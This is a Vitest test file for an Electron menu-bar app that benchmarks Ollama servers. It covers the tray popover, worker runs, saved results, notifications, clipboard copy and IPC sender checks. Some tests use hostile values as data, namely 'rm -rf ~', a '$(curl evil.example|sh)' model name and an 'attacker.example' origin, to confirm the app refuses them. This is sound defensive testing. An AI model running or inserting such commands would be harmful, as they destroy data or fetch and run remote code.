// The menu-bar app with Electron's objects replaced by the fakes in test/mocks/electron.ts and the
// worker by a fake that replays the recorded run.
import { EventEmitter } from 'node:events';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { FALLBACK_TRAY_TITLE } from '../../main/app/notification.js';
import { BLUR_CLICK_WINDOW_MS, POPOVER_SIZE } from '../../main/app/popover.js';
import { MenuBarApp, TOOLTIP, type MenuItem } from '../../main/app/menu-bar-app.js';
import { STOP_GRACE_MS, type WorkerHandle } from '../../main/app/run-controller.js';
import { AppStore, DEFAULT_SETTINGS, STORE_VERSION, type Stored } from '../../main/app/store.js';
import type { SpeedrunEvent } from '../../main/core/events.js';
import type { Report } from '../../main/core/report.js';
import { INVOKE, PUSH_CHANNEL, type AppState, type FromWorker, type ToRenderer, type ToWorker } from '../../main/contract.js';
import { FakeBrowserWindow, FakeNotification, FakeTray, MAC_DISPLAY, electronRegistry, resetElectron } from '../mocks/electron.js';
import { loadRecordedRun } from '../renderer/recorded-run.js';

const RENDERER_URL = 'file:///Applications/Ollama%20Speedrun.app/Contents/Resources/app.asar/dist/app/renderer/index.html';
const recorded = loadRecordedRun();
const recordedEvents = recorded.events.map((entry) => entry.event);
// The demo fleet's two simulated servers: the laptop and the big box.
const [laptop, bigBox] = recorded.servers.map((server) => server.url) as [string, string];
const recordedReport = (() => {
  const done = recordedEvents.at(-1);
  if (done?.type !== 'done') throw new Error('the recording must end with done');
  return done.report;
})();
/** The first model the recorded run measured (models skipped before it were done too). */
const firstMeasured = recordedEvents.findIndex((event) => event.type === 'bench-done' && event.result.status === 'ok');

class FakeWorker extends EventEmitter implements WorkerHandle {
  readonly received: ToWorker[] = [];
  readonly terminate = vi.fn(async () => 1);
  postMessage(message: ToWorker) {
    this.received.push(message);
  }
  send(message: FromWorker) {
    this.emit('message', message);
  }
  replay(events: SpeedrunEvent[]) {
    for (const event of events) this.send({ type: 'event', event });
  }
}

function harness(options: { stored?: Partial<Stored>; workerFails?: Error; notice?: string } = {}) {
  resetElectron();
  let now = 1_000_000;
  const timers: { ms: number; callback: () => void; cancelled: boolean }[] = [];
  const workers: FakeWorker[] = [];
  const window = new FakeBrowserWindow({});
  const tray = new FakeTray({});
  const clipboard = { writeText: vi.fn() };
  const handlers = new Map<string, (event: unknown, ...args: unknown[]) => unknown>();
  let saved: unknown = options.stored ? { version: STORE_VERSION, settings: DEFAULT_SETTINGS, lastRun: null, ...options.stored } : {};
  const disk = { full: false };
  const store = new AppStore(
    {
      read: () => saved,
      write: (data) => {
        if (disk.full) throw new Error('ENOSPC: no space left on device, write');
        saved = data;
      },
    },
    options.notice ?? null,
  );
  const menus: MenuItem[][] = [];
  const quit = vi.fn();
  const app = new MenuBarApp({
    tray,
    window,
    screen: { getAllDisplays: () => electronRegistry.displays, getCursorScreenPoint: () => electronRegistry.cursor },
    showMenu: (items) => menus.push(items),
    clipboard,
    notifications: { isSupported: () => FakeNotification.isSupported(), create: (text) => new FakeNotification(text) },
    ipc: { handle: (channel, handler) => handlers.set(channel, handler as (event: unknown, ...args: unknown[]) => unknown) },
    pushChannel: PUSH_CHANNEL,
    store,
    createWorker: () => {
      if (options.workerFails) throw options.workerFails;
      const worker = new FakeWorker();
      workers.push(worker);
      return worker;
    },
    runEnvironment: { ollamaHostEnv: undefined, knownServersFile: '/tmp/user-data/known-servers.json' },
    rendererUrl: RENDERER_URL,
    quit,
    now: () => now,
    schedule: (ms, callback) => {
      const timer = { ms, callback, cancelled: false };
      timers.push(timer);
      return () => (timer.cancelled = true);
    },
  });
  const popoverSender = { sender: { id: window.webContents.id }, senderFrame: { url: RENDERER_URL, parent: null } };
  const invoke = (channel: string, ...args: unknown[]) => {
    const handler = handlers.get(channel);
    if (!handler) throw new Error(`no handler for ${channel}`);
    return handler(popoverSender, ...args);
  };
  const pushes = () => window.webContents.send.mock.calls.map(([channel, message]) => ({ channel: channel as string, message: message as ToRenderer }));
  const lastState = () => {
    const states = pushes().filter((push) => push.message.type === 'state');
    const last = states.at(-1)?.message;
    if (last?.type !== 'state') throw new Error('no state was pushed');
    return last.state;
  };
  return {
    app,
    window,
    tray,
    clipboard,
    handlers,
    store,
    menus,
    quit,
    workers,
    timers,
    invoke,
    pushes,
    lastState,
    stored: () => saved as Stored,
    disk,
    advance: (ms: number) => (now += ms),
    worker: () => {
      const worker = workers.at(-1);
      if (!worker) throw new Error('no worker was started');
      return worker;
    },
  };
}

const withReport = (report: Report) => ({ lastRun: { report, end: 'finished' as const, advice: [], failedHosts: [], warnings: [] } });

beforeEach(() => resetElectron());

describe('the tray icon and the popover', () => {
  it('shows the popover under the icon on a click, focused', () => {
    const { tray, window } = harness();
    tray.bounds = { x: 1200, y: 0, width: 24, height: 38 };
    tray.click();
    expect(window.isVisible()).toBe(true);
    expect(window.bounds).toEqual({ x: 1212 - 190, y: 42, width: 380, height: POPOVER_SIZE.height });
    expect(window.focus).toHaveBeenCalled();
  });

  it('places the popover on the display that holds the icon', () => {
    const { tray, window } = harness();
    electronRegistry.displays = [
      MAC_DISPLAY,
      { bounds: { x: 1512, y: -300, width: 1920, height: 1080 }, workArea: { x: 1512, y: -275, width: 1920, height: 1055 } },
    ];
    tray.bounds = { x: 3000, y: -300, width: 24, height: 25 };
    tray.click();
    expect(window.bounds.y).toBe(-275 + 4);
    expect(window.bounds.x + window.bounds.width).toBeLessThanOrEqual(1512 + 1920);
  });

  it('hides on a second click, on blur and on Esc', () => {
    const { tray, window, advance } = harness();
    tray.click();
    tray.click();
    expect(window.isVisible()).toBe(false);

    tray.click();
    window.blur();
    expect(window.isVisible()).toBe(false);

    advance(BLUR_CLICK_WINDOW_MS + 1);
    tray.click();
    const preventDefault = vi.fn();
    window.webContents.emit('before-input-event', { preventDefault }, { type: 'keyDown', key: 'Escape' });
    expect(window.isVisible()).toBe(false);
    expect(preventDefault).toHaveBeenCalled();
  });

  it('treats the click that blurred the popover as closing it, not as reopening it', () => {
    const { tray, window, advance } = harness();
    tray.click();
    window.blur();
    advance(50);
    tray.click();
    expect(window.isVisible()).toBe(false);
  });

  it('leaves other keys to the page', () => {
    const { tray, window } = harness();
    tray.click();
    const preventDefault = vi.fn();
    window.webContents.emit('before-input-event', { preventDefault }, { type: 'keyDown', key: 'Tab' });
    expect(window.isVisible()).toBe(true);
    expect(preventDefault).not.toHaveBeenCalled();
  });

  it('offers Run benchmark, Stop and Quit on a right click, enabled by what is possible', () => {
    const { tray, menus, quit, workers } = harness();
    tray.rightClick();
    const idleMenu = menus.at(-1) ?? [];
    expect(idleMenu.map((item) => ('label' in item ? `${item.label}${item.enabled ? '' : ' (disabled)'}` : '---'))).toEqual([
      'Run benchmark',
      'Stop (disabled)',
      '---',
      'Quit Ollama Speedrun',
    ]);
    const run = idleMenu[0];
    if (run && 'click' in run) run.click();
    expect(workers).toHaveLength(1);

    tray.rightClick();
    const runningMenu = menus.at(-1) ?? [];
    expect(runningMenu.map((item) => ('enabled' in item ? item.enabled : null))).toEqual([false, true, null, true]);
    const quitItem = runningMenu[3];
    if (quitItem && 'click' in quitItem) quitItem.click();
    expect(quit).toHaveBeenCalled();
  });
});

describe('a run', () => {
  it('starts a worker with the settings as the runner options', async () => {
    const settings = { extraHosts: ['studio.local'], scan: true, subnet: '192.168.1.0/24', maxTokens: 128, runs: 2 };
    const { invoke, worker } = harness({ stored: { settings } });
    expect(await invoke(INVOKE.start)).toEqual({ ok: true });
    const [start] = worker().received;
    expect(start?.type).toBe('start');
    if (start?.type !== 'start') return;
    expect(start.options.discovery).toMatchObject({
      hosts: ['studio.local'],
      scan: true,
      subnet: '192.168.1.0/24',
      includeLoopback: true,
      knownServersFile: '/tmp/user-data/known-servers.json',
    });
    expect(start.options.benchmark).toEqual({ maxTokens: 128, runs: 2, modelTimeoutMs: 300_000 });
    expect(start.options.modelGlob).toBeNull();
  });

  it('refuses a second start while one runs', async () => {
    const { invoke, workers } = harness();
    await invoke(INVOKE.start);
    expect(await invoke(INVOKE.start)).toEqual({ ok: false, reason: 'A benchmark is already running.' });
    expect(workers).toHaveLength(1);
  });

  it('relays every runner event to the popover, in order', async () => {
    const { invoke, worker, pushes } = harness();
    await invoke(INVOKE.start);
    worker().replay(recordedEvents);
    const relayed = pushes().flatMap((push) => (push.message.type === 'event' ? [push.message.event] : []));
    expect(relayed).toEqual(recordedEvents);
    expect(pushes().every((push) => push.channel === PUSH_CHANNEL)).toBe(true);
  });

  it('shows live tokens/sec in the tray title during the run and clears it after', async () => {
    const { invoke, worker, tray } = harness();
    await invoke(INVOKE.start);
    worker().send({ type: 'event', event: { type: 'phase', phase: 'benchmark' } });
    expect(tray.title).toBe('…');
    worker().send({ type: 'event', event: { type: 'bench-start', host: 'http://a:11434', model: 'm', index: 0, total: 2 } });
    worker().send({
      type: 'event',
      event: { type: 'bench-progress', host: 'http://a:11434', model: 'm', stage: 'generate', tokens: 80, tokensPerSec: 42.3, elapsedMs: 1900 },
    });
    expect(tray.title).toBe('42 t/s');
    worker().send({ type: 'event', event: { type: 'bench-start', host: 'http://b:11434', model: 'n', index: 0, total: 1 } });
    worker().send({
      type: 'event',
      event: { type: 'bench-progress', host: 'http://b:11434', model: 'n', stage: 'generate', tokens: 30, tokensPerSec: 17.6, elapsedMs: 1700 },
    });
    expect(tray.title).toBe('42 · 18 t/s');
    worker().replay(recordedEvents.slice(-1));
    expect(tray.title).toBe('');
  });

  it('keeps only the latest live progress per server in the state a reopened popover reads', async () => {
    const { invoke, worker } = harness();
    await invoke(INVOKE.start);
    const halfway = recordedEvents.findIndex((event) => event.type === 'bench-done' && event.result.status === 'ok');
    worker().replay(recordedEvents.slice(0, halfway));
    const state = (await invoke(INVOKE.getState)) as AppState;
    expect(state.status).toBe('running');
    const progress = state.events.filter((event) => event.type === 'bench-progress');
    expect(new Set(progress.map((event) => (event.type === 'bench-progress' ? event.host : ''))).size).toBe(progress.length);
    expect(state.events.filter((event) => event.type !== 'bench-progress')).toEqual(
      recordedEvents.slice(0, halfway).filter((event) => event.type !== 'bench-progress'),
    );
  });

  it('saves the finished run and ends the worker', async () => {
    const { invoke, worker, stored, lastState } = harness();
    await invoke(INVOKE.start);
    worker().replay(recordedEvents);
    expect(stored().lastRun?.report).toEqual(recordedReport);
    expect(stored().lastRun?.advice).toEqual([]);
    expect(lastState()).toMatchObject({ status: 'idle', crash: null, events: [] });
    expect(worker().terminate).toHaveBeenCalled();
  });
});

describe('results saved as each model finishes', () => {
  const benchDone = (index: number) => {
    const event = recordedEvents[index];
    if (event?.type !== 'bench-done') throw new Error(`event ${index} is not bench-done`);
    return event.result;
  };
  const doneIndexes = recordedEvents.flatMap((event, index) => (event.type === 'bench-done' ? [index] : []));
  const names = (results: { host: string; model: string }[] = []) => results.map((result) => `${result.host} ${result.model}`).sort();

  it('saves the run so far at every finished model, marked interrupted until it ends', async () => {
    const { invoke, worker, stored } = harness();
    await invoke(INVOKE.start);
    let replayed = 0;
    for (const index of doneIndexes.filter((index) => index >= firstMeasured)) {
      worker().replay(recordedEvents.slice(replayed, index + 1));
      replayed = index + 1;
      const sofar = doneIndexes.filter((done) => done <= index).map(benchDone);
      expect(stored().lastRun?.end).toBe('interrupted');
      expect(names(stored().lastRun?.report.results)).toEqual(names(sofar));
      expect(stored().lastRun?.report.hosts).toEqual(recordedReport.hosts);
    }
    worker().replay(recordedEvents.slice(replayed));
    expect(stored().lastRun).toMatchObject({ end: 'finished', report: recordedReport });
  });

  it('builds the saved report with the core: the tiers recommend among the models finished so far', async () => {
    const { invoke, worker, stored } = harness();
    await invoke(INVOKE.start);
    worker().replay(recordedEvents.slice(0, firstMeasured + 1));
    const tiny = stored().lastRun?.report.tiers.find((tier) => tier.tier === 'tiny');
    expect(tiny?.recommended).toEqual({ host: laptop, model: benchDone(firstMeasured).model });
    expect(stored().lastRun?.report.tiers.filter((tier) => tier.recommended !== null)).toHaveLength(1);
  });

  it('keeps the previous complete results until the new run has measured a model', async () => {
    const { invoke, worker, stored } = harness({ stored: withReport(recordedReport) });
    await invoke(INVOKE.start);
    worker().replay(recordedEvents.slice(0, firstMeasured));
    expect(recordedEvents.slice(0, firstMeasured).some((event) => event.type === 'bench-done')).toBe(true);
    expect(stored().lastRun).toMatchObject({ end: 'finished', report: recordedReport });
  });

  it('keeps what a crashed worker had finished, and shows it as interrupted', async () => {
    const { invoke, worker, lastState, stored } = harness({ stored: withReport(recordedReport) });
    await invoke(INVOKE.start);
    const secondMeasured = doneIndexes.filter((index) => benchDone(index).status === 'ok')[1] ?? 0;
    worker().replay(recordedEvents.slice(0, secondMeasured + 1));
    worker().emit('exit', 134);
    const state = lastState();
    expect(state).toMatchObject({ status: 'idle', crash: 'The benchmark worker quit unexpectedly (exit code 134).' });
    expect(state.last?.end).toBe('interrupted');
    expect(names(state.last?.report.results)).toEqual(names(doneIndexes.filter((index) => index <= secondMeasured).map(benchDone)));
    expect(stored().lastRun).toEqual(state.last);
  });

  it('shows an interrupted run found at launch for what it is, with its finished models', async () => {
    const interrupted = { report: recordedReport, end: 'interrupted' as const, advice: [], failedHosts: [], warnings: [] };
    const { invoke } = harness({ stored: { lastRun: interrupted } });
    expect(((await invoke(INVOKE.getState)) as AppState).last).toEqual(interrupted);
  });
});

describe('the store notice', () => {
  const NOTICE = 'The saved settings and results could not be read (it is not valid JSON). The file was moved to /x/speedrun.json.corrupt-1 and the app started afresh with the default settings.';

  it('is in the state until the popover has been open and closed again', async () => {
    const { invoke, tray, window, lastState } = harness({ notice: NOTICE });
    expect(((await invoke(INVOKE.getState)) as AppState).notice).toBe(NOTICE);
    tray.click();
    expect(((await invoke(INVOKE.getState)) as AppState).notice).toBe(NOTICE);
    window.blur();
    expect(lastState().notice).toBeNull();
    expect(((await invoke(INVOKE.getState)) as AppState).notice).toBeNull();
  });

  it('says once that results cannot be saved, and the run goes on', async () => {
    const { invoke, worker, disk, lastState, pushes, tray, window } = harness();
    await invoke(INVOKE.start);
    disk.full = true;
    worker().replay(recordedEvents.slice(0, firstMeasured + 1));
    expect(lastState()).toMatchObject({ status: 'running', notice: expect.stringMatching(/^Could not save the settings and results \(ENOSPC: no space left on device, write\)/) });
    expect(lastState().last?.report.results.some((result) => result.status === 'ok')).toBe(true);

    tray.click();
    window.blur();
    expect(lastState().notice).toBeNull();
    const pushed = pushes().length;
    worker().replay(recordedEvents.slice(firstMeasured + 1, -1));
    expect(pushes().slice(pushed).some((push) => push.message.type === 'state')).toBe(false);
    worker().replay(recordedEvents.slice(-1));
    expect(lastState()).toMatchObject({ status: 'idle', crash: null, notice: null, last: { end: 'finished', report: recordedReport } });
  });
});

describe('the notification', () => {
  const [onLaptop, onBigBox] = [laptop, bigBox].map((url) => `on ${new URL(url).host}`);
  const expectedBody =
    `Tiny: llama3.2:1b ${onLaptop} · Small: qwen3:4b ${onLaptop} · Medium: llama3.1:8b ${onLaptop} · ` +
    `Large: gpt-oss:20b ${onBigBox} · XL: qwen3-coder:30b ${onBigBox}`;

  it('names the best model per tier when a run finishes', async () => {
    const { invoke, worker } = harness();
    await invoke(INVOKE.start);
    worker().replay(recordedEvents);
    expect(electronRegistry.notifications).toHaveLength(1);
    const [notification] = electronRegistry.notifications;
    expect(notification?.options).toEqual({ title: 'Benchmark finished', body: expectedBody });
    expect(notification?.show).toHaveBeenCalled();
  });

  it('opens the popover when clicked', async () => {
    const { invoke, worker, window } = harness();
    await invoke(INVOKE.start);
    worker().replay(recordedEvents);
    electronRegistry.notifications[0]?.emit('click', {});
    expect(window.isVisible()).toBe(true);
  });

  it('falls back to the tray title when macOS refuses it (an unsigned app since Electron 42)', async () => {
    const { invoke, worker, tray } = harness();
    await invoke(INVOKE.start);
    worker().replay(recordedEvents);
    electronRegistry.notifications[0]?.emit('failed', {}, 'Notifications are not allowed for this application');
    expect(tray.title).toBe(FALLBACK_TRAY_TITLE);
    expect(tray.toolTip).toBe(`Benchmark finished: ${expectedBody}`);

    tray.click();
    expect(tray.title).toBe('');
    expect(tray.toolTip).toBe(TOOLTIP);
  });

  it('falls back to the tray title where notifications are not supported', async () => {
    const { invoke, worker, tray } = harness();
    electronRegistry.notificationsSupported = false;
    await invoke(INVOKE.start);
    worker().replay(recordedEvents);
    expect(electronRegistry.notifications).toHaveLength(0);
    expect(tray.title).toBe(FALLBACK_TRAY_TITLE);
  });

  it('is not posted while the popover is open, nor after a stop the user asked for', async () => {
    const open = harness();
    open.tray.click();
    await open.invoke(INVOKE.start);
    open.worker().replay(recordedEvents);
    expect(electronRegistry.notifications).toHaveLength(0);

    const stopped = harness();
    await stopped.invoke(INVOKE.start);
    await stopped.invoke(INVOKE.stop);
    stopped.worker().replay([{ type: 'done', report: recordedReport, cancelled: true }]);
    expect(electronRegistry.notifications).toHaveLength(0);
  });

  it('says so when no server was found', async () => {
    const { invoke, worker } = harness();
    await invoke(INVOKE.start);
    const advice = ['No Ollama server answered on 192.168.1.0/24; on the server, set OLLAMA_HOST=0.0.0.0 and restart Ollama.'];
    const empty: Report = { ...recordedReport, hosts: [], results: [], tiers: recordedReport.tiers.map((tier) => ({ ...tier, recommended: null, ranked: [] })) };
    worker().replay([
      { type: 'discovery-done', hosts: [], tried: ['http://127.0.0.1:11434'], advice },
      { type: 'done', report: empty, cancelled: false },
    ]);
    expect(electronRegistry.notifications[0]?.options).toEqual({ title: 'No Ollama server found', body: advice[0] });
  });
});

describe('stopping', () => {
  it('asks the runner to cancel, and keeps a stop that measured something', async () => {
    const { invoke, worker, lastState, stored } = harness();
    await invoke(INVOKE.start);
    await invoke(INVOKE.stop);
    expect(worker().received.map((message) => message.type)).toEqual(['start', 'cancel']);
    expect(lastState().status).toBe('stopping');
    worker().replay([{ type: 'done', report: recordedReport, cancelled: true }]);
    expect(lastState().status).toBe('idle');
    expect(stored().lastRun?.end).toBe('stopped');
  });

  it('keeps the previous results when a stop measured nothing', async () => {
    const { invoke, worker, stored } = harness({ stored: withReport(recordedReport) });
    await invoke(INVOKE.start);
    await invoke(INVOKE.stop);
    worker().replay([{ type: 'done', report: { ...recordedReport, results: [] }, cancelled: true }]);
    expect(stored().lastRun?.report).toEqual(recordedReport);
  });

  it('terminates a worker that does not stop within the grace period', async () => {
    const { invoke, worker, timers, lastState } = harness();
    await invoke(INVOKE.start);
    await invoke(INVOKE.stop);
    const [timer] = timers;
    expect(timer?.ms).toBe(STOP_GRACE_MS);
    timer?.callback();
    expect(worker().terminate).toHaveBeenCalled();
    expect(lastState()).toMatchObject({ status: 'idle', crash: expect.stringContaining('did not stop within 15 s') });
  });

  it('cancels the hard stop when the runner stops in time', async () => {
    const { invoke, worker, timers } = harness();
    await invoke(INVOKE.start);
    await invoke(INVOKE.stop);
    worker().replay([{ type: 'done', report: recordedReport, cancelled: true }]);
    expect(timers[0]?.cancelled).toBe(true);
  });

  it('lets a running benchmark put the servers back before the app quits', async () => {
    const { app, invoke, worker } = harness();
    await invoke(INVOKE.start);
    let quitDone = false;
    const quitting = app.shutdown().then(() => (quitDone = true));
    expect(worker().received.at(-1)).toEqual({ type: 'cancel' });
    await Promise.resolve();
    expect(quitDone).toBe(false);
    worker().replay([{ type: 'done', report: recordedReport, cancelled: true }]);
    await quitting;
    expect(quitDone).toBe(true);
  });
});

describe('a worker that breaks', () => {
  it('reports a crash in the popover and lets the next run start', async () => {
    const { invoke, worker, workers, lastState, tray } = harness();
    await invoke(INVOKE.start);
    worker().replay(recordedEvents.slice(0, 10));
    worker().emit('error', new Error('Cannot read properties of undefined'));
    expect(lastState()).toMatchObject({ status: 'idle', crash: 'The benchmark stopped with an internal error: Cannot read properties of undefined' });
    expect(tray.title).toBe('');
    expect(await invoke(INVOKE.start)).toEqual({ ok: true });
    expect(workers).toHaveLength(2);
    expect(lastState().crash).toBeNull();
  });

  it('reports a worker that exits on its own', async () => {
    const { invoke, worker, lastState } = harness();
    await invoke(INVOKE.start);
    worker().emit('exit', 134);
    expect(lastState().crash).toBe('The benchmark worker quit unexpectedly (exit code 134).');
  });

  it('reports a runner that threw', async () => {
    const { invoke, worker, lastState } = harness();
    await invoke(INVOKE.start);
    worker().send({ type: 'failed', message: 'discovery exploded' });
    expect(lastState().crash).toBe('The benchmark failed: discovery exploded');
  });

  it('reports a worker that cannot start', async () => {
    const { invoke, lastState } = harness({ workerFails: new Error('Cannot find module worker.cjs') });
    expect(await invoke(INVOKE.start)).toEqual({ ok: false, reason: 'The benchmark could not start: Cannot find module worker.cjs' });
    expect(lastState()).toMatchObject({ status: 'idle', crash: 'The benchmark could not start: Cannot find module worker.cjs' });
  });

  it('ignores what a worker says after it was ended', async () => {
    const { invoke, worker, lastState, pushes } = harness();
    await invoke(INVOKE.start);
    worker().emit('exit', 1);
    const count = pushes().length;
    worker().replay(recordedEvents);
    worker().emit('exit', 1);
    expect(pushes()).toHaveLength(count);
    expect(lastState().crash).toBe('The benchmark worker quit unexpectedly (exit code 1).');
  });
});

describe('copy', () => {
  it('puts the model name on the clipboard and says what it copied', async () => {
    const { invoke, clipboard } = harness({ stored: withReport(recordedReport) });
    const result = await invoke(INVOKE.copy, { host: laptop, model: 'qwen3:4b', form: 'name' });
    expect(result).toEqual({ ok: true, text: 'qwen3:4b' });
    expect(clipboard.writeText).toHaveBeenCalledWith('qwen3:4b');
  });

  it('copies the run command as the second choice', async () => {
    const { invoke, clipboard } = harness({ stored: withReport(recordedReport) });
    expect(await invoke(INVOKE.copy, { host: bigBox, model: 'gpt-oss:20b', form: 'run' })).toEqual({ ok: true, text: 'ollama run gpt-oss:20b' });
    expect(clipboard.writeText).toHaveBeenCalledWith('ollama run gpt-oss:20b');
  });

  it('copies only models of the current results', async () => {
    const { invoke, clipboard } = harness({ stored: withReport(recordedReport) });
    expect(await invoke(INVOKE.copy, { host: laptop, model: 'rm -rf ~', form: 'run' })).toEqual({
      ok: false,
      reason: 'rm -rf ~ is not in the current results.',
    });
    expect(await invoke(INVOKE.copy, { model: 'qwen3:4b' })).toMatchObject({ ok: false });
    expect(clipboard.writeText).not.toHaveBeenCalled();
  });

  it('never copies a name a shell would interpret, even from a server that reported one', async () => {
    const hostile = '$(curl evil.example|sh)';
    const report = { ...recordedReport, results: recordedReport.results.map((result, index) => (index === 0 ? { ...result, model: hostile } : result)) };
    const { invoke, clipboard } = harness({ stored: withReport(report) });
    const host = report.results[0]?.host;
    expect(await invoke(INVOKE.copy, { host, model: hostile, form: 'run' })).toMatchObject({ ok: false });
    expect(clipboard.writeText).not.toHaveBeenCalled();
  });
});

describe('settings', () => {
  it('are read and saved through IPC, with errors per field', async () => {
    const { invoke, stored } = harness();
    expect(await invoke(INVOKE.getSettings)).toEqual(DEFAULT_SETTINGS);
    const next = { ...DEFAULT_SETTINGS, extraHosts: ['studio.local'], scan: false };
    expect(await invoke(INVOKE.setSettings, next)).toEqual({ ok: true, settings: next });
    expect(stored().settings).toEqual(next);
    expect(await invoke(INVOKE.setSettings, { ...next, runs: 0 })).toEqual({ ok: false, errors: { runs: 'runs must be at least 1' } });
    expect(stored().settings).toEqual(next);
  });
});

describe('IPC from anywhere but the popover', () => {
  const calls: [string, ...unknown[]][] = [
    [INVOKE.start],
    [INVOKE.copy, { host: laptop, model: 'qwen3:4b', form: 'name' }],
    [INVOKE.setSettings, { ...DEFAULT_SETTINGS, extraHosts: ['attacker.example'] }],
    [INVOKE.getState],
  ];

  it.each([
    ['another webContents', (id: number) => ({ sender: { id: id + 1 }, senderFrame: { url: RENDERER_URL, parent: null } })],
    ['another page in the popover', (id: number) => ({ sender: { id }, senderFrame: { url: 'https://attacker.example/', parent: null } })],
    ['a frame inside the popover', (id: number) => ({ sender: { id }, senderFrame: { url: RENDERER_URL, parent: {} } })],
    ['a sender without a frame', (id: number) => ({ sender: { id }, senderFrame: null })],
  ])('is refused from %s, and nothing happens', async (_name, makeEvent) => {
    const { handlers, window, workers, clipboard, stored } = harness({ stored: withReport(recordedReport) });
    for (const [channel, ...args] of calls) {
      const handler = handlers.get(channel);
      expect(() => handler?.(makeEvent(window.webContents.id), ...args)).toThrow(/refused: the call did not come from the popover/);
    }
    expect(workers).toHaveLength(0);
    expect(clipboard.writeText).not.toHaveBeenCalled();
    expect(stored().settings.extraHosts).toEqual([]);
  });

  it('registers a handler for every channel of the contract, and only those', () => {
    const { handlers } = harness();
    expect([...handlers.keys()].sort()).toEqual(Object.values(INVOKE).sort());
  });
});
